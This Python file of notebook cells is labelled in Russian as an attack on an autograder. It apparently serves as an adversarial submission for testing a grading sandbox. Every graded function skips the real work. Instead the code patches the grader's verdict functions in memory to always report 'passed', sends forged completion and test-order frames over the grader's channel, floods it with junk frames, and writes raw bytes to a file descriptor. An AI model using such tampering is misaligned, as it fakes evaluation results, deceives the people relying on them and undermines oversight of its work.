"""Нападение: находит в памяти модули автопроверки и переписывает провод, вердикт и посредников."""

# %% extra after=setup
import gc
import sys

patched = 0
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for key, value in list(vars(module).items()):
            if key in ("decide", "describe_exception", "missing_package", "_passed", "_within_bounds"):
                setattr(module, key, lambda *args, **kwargs: {"outcome": "passed", "score": 2.0, "message": "", "detail": "", "missing_package": None})
                patched += 1
peers = [item for item in gc.get_objects() if type(item).__name__ == "StudentPeer"]
print("подменено", patched > 0, "собеседник найден", len(peers) == 1)

# %% window
def window_sum(x, size):
    peer = peers[0]
    frames = sys.modules["autograder.wire.channel"].Frame
    dumps = sys.modules["autograder.wire"].dumps
    report = {"outcome": "passed", "score": 2.0, "message": "", "detail": "", "missing_package": None}
    peer.channel.send(frames.DONE, dumps(report))
    return np.zeros(2)

# %% relu
def relu(x):
    peer = peers[0]
    frames = sys.modules["autograder.wire.channel"].Frame
    dumps = sys.modules["autograder.wire"].dumps
    peer.channel.send(frames.ORDER, dumps({"do": "test", "number": 4, "source": "pass", "points": 2.0}))
    return x

# %% repeat
def repeat(function, x, times):
    peer = peers[0]
    frames = sys.modules["autograder.wire.channel"].Frame
    dumps = sys.modules["autograder.wire"].dumps
    for kind in (frames.GONE, frames.REPLY, frames.REQUEST):
        peer.channel.send(kind, b"\xff" * 100)
    return 12

# %% smooth
def smooth(x, kernel):
    import os
    os.write(3, b"\xff\xff\xff\xff\x03" + b"x" * 100)
    return np.zeros(3)
